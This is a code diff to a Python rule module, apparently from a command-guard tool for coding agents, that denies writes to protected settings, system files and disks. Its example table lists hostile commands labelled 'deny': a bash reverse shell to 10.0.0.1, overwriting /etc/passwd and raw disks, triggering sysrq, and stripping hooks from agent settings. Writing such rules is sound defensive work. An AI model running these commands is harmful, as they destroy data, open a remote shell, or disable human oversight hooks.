@@ -6,14 +6,13 @@ empty settings file in the next session, which then has no guard.
 
 from __future__ import annotations
 
-from hookwright.rules import ask, deny, shown
-from hookwright.rules import paths
-from hookwright.rules.protected import GIT, PROFILE, SECRET, SETTINGS, SYSTEM, WHAT, protection
+from hookwright.rules import ask, deny, paths, shown
+from hookwright.rules.protected import GIT, SECRET, SETTINGS, SYSTEM, WHAT, protection
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
     from hookwright.rules import Finding, Scene
-    from hookwright.shell.command import Call
+    from hookwright.shell.command import Call, Word
 
 ID = "protected-write"
 EXAMPLES = {
@@ -22,6 +21,7 @@ EXAMPLES = {
     "jq 'del(.hooks)' .claude/settings.json > /tmp/s && mv /tmp/s .claude/settings.json": "deny",
     "> /etc/passwd": "deny",
     "echo x > /dev/sda": "deny",
+    "cp image.iso /dev/sdb": "deny",
     "echo b > /proc/sysrq-trigger": "deny",
     "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1": "deny",
     "echo 'export A=1' >> ~/.bashrc": "ask",
@@ -67,7 +67,7 @@ def written(call: Call, word: Word, *, appends: bool) -> Finding | None:
     what = protection(path if path[-1:] != "/" else path + "x")
     if not what or what == SECRET or (call.remote is not None and what != SYSTEM):
         return None
-    if what == SYSTEM and (path.startswith(paths.TEMPS) or path[:6] == "/proc/" and path[6:].startswith("self")):
+    if what == SYSTEM and (path.startswith(paths.TEMPS) or (path[:6] == "/proc/" and path[6:].startswith("self"))):
         return None
     text = seen(call, word)
     look = f"cat {word}" if call.program not in EDITORS else f"ls -la {word}"
@@ -86,7 +86,7 @@ def runs_later(path: str) -> bool:
 
 
 def device(call: Call, word: Word) -> Finding | None:
-    from hookwright.rules.raw_device import DISKS  # noqa: PLC0415  rare
+    from hookwright.rules.raw_device import DISKS
 
     if word.startswith(DISKS):
         return deny(f"{seen(call, word)}: the disk is overwritten from its first byte", "lsblk")
@@ -108,9 +108,7 @@ def targets(call: Call) -> list[tuple[Word, bool]]:
         found += [(word, call.has_flag("-a", "--append")) for word in operands]
     elif program in ("cp", "mv", "install", "ln", "rsync") and len(operands) > 1:
         found.append((call.option("-t", "--target-directory") or operands[-1], False))
-    elif program in EDITORS:
-        found += [(word, True) for word in operands]
-    elif program in ("sed", "gsed", "perl", "ruby") and edits_in_place(call):
+    elif program in EDITORS or (program in ("sed", "gsed", "perl", "ruby") and edits_in_place(call)):
         found += [(word, True) for word in operands]
     elif program in ("truncate", "touch"):
         found += [(word, program == "touch") for word in operands]
